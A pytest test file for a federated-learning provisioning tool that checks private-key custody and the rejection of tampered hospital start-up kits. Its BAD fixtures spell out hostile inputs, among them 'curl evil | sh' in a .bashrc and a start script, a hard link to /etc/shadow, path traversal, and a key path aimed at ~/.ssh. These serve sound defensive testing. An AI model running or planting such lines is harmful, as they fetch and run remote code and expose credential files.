"""Promise: nobody but the hospital holds its private key, and a start-up kit brings nothing else than a start-up kit."""

from __future__ import annotations

import tarfile
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from pneumofed.client.cli.site import app as site_app
from pneumofed.client.site.checks import check_site_keys
from pneumofed.client.site.folder import SiteFolder
from pneumofed.client.site.init import init_from_kit
from pneumofed.common.errors import ConfigError
from pneumofed.common.wire.keys import read_private_key, read_public_key
from pneumofed.server.cli.provision import provision_command
from pneumofed.server.provisioning.provision import provision
from tests.client.kits import archive, kit_files, special
from tests.server.federations import federation

SITES = [{"name": "north"}, {"name": "south"}]


def private_keys(folder: Path) -> set[str]:
    """Files below `folder`, and members of its archives, that hold a private key."""
    found = set()
    for path in (path for path in folder.rglob("*") if path.is_file()):
        if path.name.endswith(".tar.gz"):
            with tarfile.open(path) as tar:
                found |= {m.name for m in tar if m.isfile() and b"PRIVATE KEY" in tar.extractfile(m).read()}  # type: ignore[union-attr]
        elif b"PRIVATE KEY" in path.read_bytes():
            found.add(str(path.relative_to(folder)))
    return found


@pytest.mark.parametrize("mutual_tls", [False, True])
def test_whoever_provisions_never_holds_a_sites_private_key(tmp_path: Path, mutual_tls: bool) -> None:
    config, out = federation(sites=SITES, mutual_tls=mutual_tls), tmp_path / "kits"
    provision(config, out)
    made = {site: init_from_kit(tmp_path / site, out / f"{site}.tar.gz").made for site in ("north", "south")}
    provision(config, out, {name: path for name, path in made.items() if path})
    assert private_keys(out) == {"ca/ca.key", "coordinator/keys/server.key"}
    for site in made:
        again = init_from_kit(tmp_path / site, out / f"{site}.tar.gz")
        keys = tmp_path / site / "keys"
        assert not again.brought_key and again.made is None
        assert read_public_key(out / "coordinator" / "sites" / f"{site}.pub") == read_private_key(keys / "node").public_key()
        assert {path.name for path in keys.iterdir()} == {"ca.crt", "node", "node.pub"} | (
            {"client.crt", "client.key"} if mutual_tls else set()
        )


def test_a_site_learns_that_its_certificate_comes_with_a_second_kit(tmp_path: Path) -> None:
    config, out = federation(sites=SITES, mutual_tls=True), tmp_path / "kits"
    provision(config, out)
    call = ["init", str(tmp_path / "site"), "--kit", str(out / "north.tar.gz")]
    told = CliRunner().invoke(site_app, call).output
    assert "a kit with this site's certificate" in told.replace("\n", " ")
    problems = {found.name for found in check_site_keys(SiteFolder.open(tmp_path / "site")) if found.level == "problem"}
    assert problems == {"site certificate"}  # of a key that fits nothing yet nothing is said
    provision(config, out, {"north": tmp_path / "site" / "keys" / "node.pub"})
    assert "certificate" not in CliRunner().invoke(site_app, call).output
    assert not [found for found in check_site_keys(SiteFolder.open(tmp_path / "site")) if found.level == "problem"]


def test_a_key_that_was_not_admitted_is_in_nobodys_list(tmp_path: Path) -> None:
    out = tmp_path / "kits"
    reports = {report.name: report for report in provision(federation(sites=SITES), out)}
    assert "--admit north=north.pub" in reports["north"].note
    assert not (out / "coordinator" / "sites").exists()
    assert '"keys": {}' in (out / "coordinator" / "keys" / "roster.json").read_text()


def test_the_key_of_a_stranger_or_of_a_revoked_site_is_not_admitted(tmp_path: Path) -> None:
    out = tmp_path / "kits"
    provision(federation(sites=SITES), out)
    public = init_from_kit(tmp_path / "north", out / "north.tar.gz").made
    assert public is not None
    with pytest.raises(ConfigError, match="no such site"):
        provision(federation(sites=SITES), out, {"east": public})
    provision(federation(sites=SITES), out, {"north": public})
    with pytest.raises(ConfigError, match="is the one of site north"):
        provision(federation(sites=SITES), out, {"south": public})
    provision(federation(sites=[{"name": "north", "revoked": True}, SITES[1]]), out)
    with pytest.raises(ConfigError, match="was revoked"):
        provision(federation(sites=SITES), out, {"north": public})


def test_the_other_way_says_what_it_means(tmp_path: Path) -> None:
    help_ = " ".join(CliRunner().invoke(_app(), ["--help"], env={"COLUMNS": "300"}).output.split())
    assert "whoever holds this folder or a kit can act as the hospital" in help_
    reports = provision(federation(sites=SITES[:1]), tmp_path, with_keys=True)
    assert any("PRIVATE key" in report.note for report in reports)
    assert "PRIVATE key: whoever made it" in (tmp_path / "north" / "README.md").read_text()
    assert init_from_kit(tmp_path / "site", tmp_path / "north.tar.gz").brought_key


def _app() -> Any:
    import typer

    app = typer.Typer()
    app.command()(provision_command)
    return app


BAD: dict[str, dict[str, Any]] = {
    "a noise key": {"north/work/noise.key": "0" * 64},
    "a pseudonym key": {"north/data/pseudonym.key": "0" * 64},
    "an audit log": {"north/work/audit.jsonl": "{}"},
    "a shell's file": {"north/.bashrc": "curl evil | sh"},
    "another key": {"north/keys/other": "x"},
    "a module": {"north/sitecustomize.py": "import os"},
    "a path outside": {"north/../x": "x"},
    "a link": {"link": special("north/keys/node.pub", tarfile.SYMTYPE)},
    "a hard link": {"link": special("north/policy.yaml", tarfile.LNKTYPE, "/etc/shadow")},
    "a script that does more": {"north/start.sh": "#!/bin/sh\ncurl evil | sh\n"},
    "a policy that refuses nothing": {
        "north/site.yaml": "name: north\nmanifest: data/manifest.csv\nwork_dir: work\npolicy: null\n"
    },
    "a work folder elsewhere": {
        "north/site.yaml": "name: north\nmanifest: data/manifest.csv\nwork_dir: /tmp\npolicy: policy.yaml\n"
    },
    "a key elsewhere": {"north/connection.yaml": "coordinator: example.org:1\nkey: ../../home/.ssh/id_ecdsa\n"},
    "an authority that is none": {"north/keys/ca.crt": "certificate"},
    "a policy of another kind": {"north/policy.yaml": "[1, 2]"},
    "a binary": {"north/README.md": "\x00\x01"},
}


@pytest.mark.parametrize("bad", BAD.values(), ids=BAD.keys())
@pytest.mark.parametrize("as_folder", [False, True])
def test_a_kit_with_anything_else_is_not_taken(tmp_path: Path, bad: dict[str, Any], as_folder: bool) -> None:
    kit = archive(tmp_path / "kit.tar.gz", {**kit_files(with_key=False), **bad})
    if as_folder:
        if any(isinstance(content, tarfile.TarInfo) or ".." in name for name, content in bad.items()):
            pytest.skip("such names and links are made for archives; a linked folder is tested by itself")
        with tarfile.open(kit) as tar:
            tar.extractall(tmp_path / "unpacked", filter="data")
        kit = tmp_path / "unpacked" / "north"
    with pytest.raises(ConfigError):
        init_from_kit(tmp_path / "site", kit)
    assert not (tmp_path / "site").exists()


def test_a_linked_file_in_a_kits_folder_is_not_followed(tmp_path: Path) -> None:
    with tarfile.open(archive(tmp_path / "kit.tar.gz", kit_files(with_key=False))) as tar:
        tar.extractall(tmp_path, filter="data")
    (tmp_path / "secret").write_text("mine")
    (tmp_path / "north" / "README.md").symlink_to(tmp_path / "secret")
    with pytest.raises(ConfigError):
        init_from_kit(tmp_path / "site", tmp_path / "north")
    assert not (tmp_path / "site").exists()
